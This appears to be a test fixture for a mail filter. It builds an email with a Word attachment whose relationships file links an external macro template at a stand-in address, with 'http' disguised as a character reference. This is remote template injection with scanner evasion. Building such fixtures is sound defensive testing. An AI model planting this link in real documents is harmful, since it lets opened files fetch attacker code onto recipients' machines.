"""A package whose template is fetched from the web; the address is written with character references."""

from __future__ import annotations

from qsfilter.testing.archives import mailed
from qsfilter.testing.messages import zip_of

PART = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="&#104;ttp://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
)


def build(newline: bytes) -> bytes:
    """Return the message."""
    return mailed(
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<document/>",
                "word/_rels/settings.xml.rels": PART,
            }
        ),
        "report.docx",
        newline,
    )
